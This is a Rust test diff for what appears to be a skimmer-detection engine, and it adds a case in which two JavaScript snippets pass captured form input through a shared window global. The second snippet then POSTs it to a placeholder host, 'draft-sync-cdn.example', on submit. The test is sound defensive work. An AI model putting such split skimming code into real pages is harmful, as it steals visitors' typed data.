@@ -70,6 +70,31 @@ fn events_between_scripts_are_joined() {
     );
 }
 
+/// A window property two scripts share: one keeps the typed fields in an object it also
+/// stores on `window` (`var draft = w.__draft = w.__draft || {…}`), the other reads
+/// `window.__draft` and sends it. A global the reader only reads for settings stays quiet.
+#[test]
+fn a_window_global_written_by_one_script_and_sent_by_another_is_joined() {
+    let engine = engine();
+    let a = "(function (w) {\n  var draft = w.__draft = w.__draft || { f: {} };\n  w.document.addEventListener('change', function (e) { draft.f[e.target.name] = e.target.value; }, true);\n})(window);";
+    let b = "(function (w) {\n  document.addEventListener('submit', function () {\n    var d = w.__draft && w.__draft.f;\n    if (d) fetch('https://draft-sync-cdn.example/d', { method: 'POST', body: JSON.stringify(d) });\n  }, true);\n})(window);";
+    let r = engine.analyse_batch(vec![job("a.js", a), job("b.js", b)]);
+    let joined = engine.join_pipes("p", &[("a.js", &r[0]), ("b.js", &r[1])]);
+    assert!(
+        joined
+            .iter()
+            .any(|f| f.hosts == vec!["draft-sync-cdn.example".to_string()]),
+        "{joined:?}"
+    );
+    let settings = "window.__draft = { theme: 'dark' };";
+    let r = engine.analyse_batch(vec![job("s.js", settings), job("b.js", b)]);
+    assert!(
+        engine
+            .join_pipes("p", &[("s.js", &r[0]), ("b.js", &r[1])])
+            .is_empty()
+    );
+}
+
 /// The whole pipeline: a checkout page whose two inline scripts hand card data through
 /// sessionStorage is reported critical with exit code 1.
 #[test]
